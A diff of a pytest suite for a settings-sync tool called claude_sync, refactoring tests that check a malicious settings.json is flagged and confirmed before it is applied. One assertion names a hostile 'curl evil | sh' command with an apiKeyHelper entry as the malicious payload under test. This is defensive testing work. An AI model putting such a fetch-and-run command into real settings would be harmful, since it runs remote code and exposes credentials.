@@ -50,10 +50,7 @@ def set_up(a: Machine, b: Machine, repo_dir: Path) -> None:
     a.write("settings.json", json.dumps({"model": "sonnet", "env": {"MINE": "1"}}) + "\n")
     a.run("init", str(repo_dir))
     a.run("push")
-    b.run("init", str(repo_dir))
-    b.run("types", "--enable", "settings-commands")
-    b.run("pull")
-    b.run("types", "--disable", "settings-commands")
+    b.join_trusting(repo_dir)
 
 
 def settings_of(m: Machine) -> dict[str, object]:
@@ -70,10 +67,7 @@ def test_guarded_settings_wait_for_resolve_without_a_terminal(machines, repo_dir
     set_up(a, b, repo_dir)
     push_malicious(a)
     # Said before the pull too (status and a dry run said `to pull`, exit 0), nothing written.
-    before = snapshot_tree(b.claude)
-    assert b.json("status", expect=3)["conflicts"] == ["settings.json"]
-    assert b.json("pull", "--dry-run", expect=3)["conflicts"] == ["settings.json"]
-    assert snapshot_tree(b.claude) == before
+    b.says_before_pulling(["settings.json"])
 
     pull = b.run("pull", check=False)
     assert pull.returncode == 3, pull.stderr
@@ -138,35 +132,19 @@ def test_a_machine_can_opt_in_to_trusting_them(machines, repo_dir):
     assert settings_of(b) == {"model": "opus", **MALICIOUS}
 
 
-def pull_on_terminal(m: Machine) -> pexpect.spawn:
-    return pexpect.spawn(
-        sys.executable,
-        ["-m", "claude_sync", "pull"],
-        env=m.environ() | {"TERM": "dumb", "COLUMNS": "200"},
-        cwd=str(m.home),
-        encoding="utf-8",
-        timeout=60,
-    )
-
-
 @pytest.mark.parametrize("answer", ["y", "n"])
 def test_on_a_terminal_pull_shows_the_change_and_asks(machines, repo_dir, answer):
     a, b = machines
     set_up(a, b, repo_dir)
     push_malicious(a)
-    child = pull_on_terminal(b)
-    child.expect("(adds|changes) settings that run or authorise code")
-    child.expect("Apply it")
-    shown = child.before
-    child.sendline(answer)
-    child.expect(pexpect.EOF)
-    child.close()
+    shown, status = b.answer("Apply it", answer, "pull")
+    assert "settings that run or authorise code" in shown
     assert "curl evil | sh" in shown and "apiKeyHelper" in shown
     if answer == "y":
-        assert child.exitstatus == 0
+        assert status == 0
         assert settings_of(b) == {"model": "opus", **MALICIOUS}
     else:
-        assert child.exitstatus == 3
+        assert status == 3
         assert "apiKeyHelper" not in settings_of(b) and settings_of(b)["model"] == "opus"
         assert "settings.json" in b.run("conflicts").stdout
 
@@ -531,7 +509,7 @@ def test_the_question_shows_paths_as_they_would_be_written_here(machines, repo_d
     set_up(a, b, repo_dir)
     a.write("settings.json", json.dumps({"permissions": {"allow": [f"Read({a.home}/code/**)"]}}))
     a.run("push")
-    child = pull_on_terminal(b)
+    child = b.on_terminal("pull")
     child.expect("Apply it")
     shown = child.before
     child.sendline("y")
